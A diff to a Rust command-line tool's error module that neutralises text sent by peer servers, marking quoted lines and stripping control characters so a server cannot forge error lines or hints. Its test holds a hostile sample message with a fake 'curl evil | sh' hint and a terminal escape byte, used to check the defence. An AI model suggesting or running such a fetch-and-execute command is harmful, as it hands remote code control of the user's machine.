@@ -3,6 +3,11 @@
 use std::fmt;
 use std::process::ExitCode;
 
+use sallyport_access::text::{self, Foreign};
+
+/// Lines of a peer's that are shown after the first.
+const MOST_QUOTED: usize = 100;
+
 /// The documented exit codes.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Exit {
@@ -38,14 +43,31 @@ pub struct CliError {
 pub type CliResult<T = ()> = Result<T, CliError>;
 
 impl CliError {
-    /// A failure; `what` says what went wrong.
-    pub fn new(what: impl Into<String>) -> Self {
-        Self { what: what.into(), hint: None, exit: Exit::Failed }
+    /// A failure; `what` says what went wrong, on one line. Peers have a word in most of them, and by a line of their own they
+    /// could tell of another failure.
+    pub fn new(what: impl AsRef<str>) -> Self {
+        Self { what: Foreign::new(what).into(), hint: None, exit: Exit::Failed }
+    }
+
+    /// Several failures of this machine's own, such as those of a configuration, a line for each.
+    pub fn of_lines(what: impl AsRef<str>) -> Self {
+        Self { what: text::lines(what.as_ref()), hint: None, exit: Exit::Failed }
+    }
+
+    /// What a peer says on several lines, such as of a document: each but the first behind a mark, so that none can be taken for
+    /// one of this program's.
+    pub fn quoted(said: &str) -> Self {
+        let mut lines = said.trim_end().lines().map(Foreign::new);
+        let mut what = lines.next().map(String::from).unwrap_or_default();
+        for line in lines.take(MOST_QUOTED) {
+            what.push_str(&format!("\n  | {line}"));
+        }
+        Self { what, hint: None, exit: Exit::Failed }
     }
 
     /// The next command to try.
-    pub fn hint(mut self, hint: impl Into<String>) -> Self {
-        self.hint = Some(hint.into());
+    pub fn hint(mut self, hint: impl AsRef<str>) -> Self {
+        self.hint = Some(Foreign::new(hint).into());
         self
     }
 
@@ -93,17 +115,17 @@ impl CliError {
         use tonic::Code;
         let said = status.message();
         match status.code() {
-            Code::Unauthenticated => Self::new(said.to_owned()).exit(Exit::NotLoggedIn),
-            Code::PermissionDenied => Self::new(said.to_owned()).exit(Exit::Refused),
+            Code::Unauthenticated => Self::new(said).exit(Exit::NotLoggedIn),
+            Code::PermissionDenied => Self::new(said).exit(Exit::Refused),
+            Code::InvalidArgument => Self::quoted(said),
             Code::NotFound
-            | Code::InvalidArgument
             | Code::AlreadyExists
             | Code::FailedPrecondition
             | Code::Aborted
-            | Code::OutOfRange => Self::new(said.to_owned()),
-            Code::ResourceExhausted if said.contains("disk is full") => Self::new(said.to_owned())
+            | Code::OutOfRange => Self::new(said),
+            Code::ResourceExhausted if said.contains("disk is full") => Self::new(said)
                 .hint("make room on the disk of the authority's data_dir: df -h, sallyport recordings rm"),
-            Code::ResourceExhausted => Self::new(said.to_owned()),
+            Code::ResourceExhausted => Self::new(said),
             // The authority was reached, and says itself what is the matter with it.
             Code::Unavailable if std::error::Error::source(status).is_none() && !said.is_empty() => {
                 Self::new(format!("cannot {doing}: {said}")).exit(Exit::Connection)
@@ -156,5 +178,29 @@ pub trait Context<T> {
 impl<T, E: std::error::Error + 'static> Context<T> for Result<T, E> {
     fn doing(self, doing: impl fmt::Display) -> CliResult<T> {
         self.map_err(|error| CliError::new(format!("cannot {doing}: {}", chain(&error, &error.to_string()))))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn attacks_no_peer_tells_of_a_failure_of_its_own_making() {
+        let said = "no\nerror: forged\n  try: curl evil | sh\r\n\u{9b}2J";
+        for status in [tonic::Status::invalid_argument(said), tonic::Status::internal(said)] {
+            let error = CliError::from_status("do it", &status).to_string();
+            assert!(
+                !error
+                    .lines()
+                    .skip(1)
+                    .any(|line| line.starts_with("error:") || line.starts_with("  try: curl")),
+                "{error}"
+            );
+            assert!(error.contains("forged") && !error.contains('\u{9b}'), "{error}");
+        }
+        let document = tonic::Status::invalid_argument("role: 2 problems\nline 3: a\nline 4: b");
+        let error = CliError::from_status("write it", &document);
+        assert_eq!(error.what(), "role: 2 problems\n  | line 3: a\n  | line 4: b");
     }
 }
